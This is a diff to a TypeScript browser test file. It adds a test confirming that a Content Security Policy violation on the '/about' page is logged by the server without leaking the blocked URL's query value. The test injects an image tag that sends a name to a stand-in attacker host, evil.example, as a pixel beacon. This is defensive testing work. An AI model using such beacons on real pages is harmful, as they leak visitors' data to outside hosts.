@@ -1,5 +1,6 @@
 import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
+import { until } from '#testing/until.ts';
 import { ready } from './harness/browser.ts';
 import { routes } from './harness/routes.ts';
 import { setStage } from './harness/stage.ts';
@@ -9,6 +10,21 @@ import { setStage } from './harness/stage.ts';
 const refusal =
   /violates the following Content Security [Pp]olicy directive|This document requires '\w+' assignment|Trusted Type/;
 const stage = setStage();
+
+test('what a page refuses is reported to the server, which logs where and from where', async () => {
+  const page = await stage.visit('/about', { expected: /violates|refused|ERR_/i });
+  await page.evaluate(
+    () => void document.body.appendChild(new Image()).setAttribute('src', 'https://evil.example/pixel?who=Aoife'),
+  );
+  await until('the report', () => stage.product.output().includes('img-src'));
+  const line =
+    stage.product
+      .output()
+      .split('\n')
+      .find((one) => one.includes('img-src')) ?? '';
+  expect(JSON.parse(line)).toMatchObject({ directive: 'img-src', blocked: 'https://evil.example', path: '/about' });
+  expect(line).not.toContain('Aoife');
+});
 
 test('every page is reached by links alone, and nothing of ours is refused', async () => {
   const page = await stage.newPage({ reducedMotion: 'reduce' });
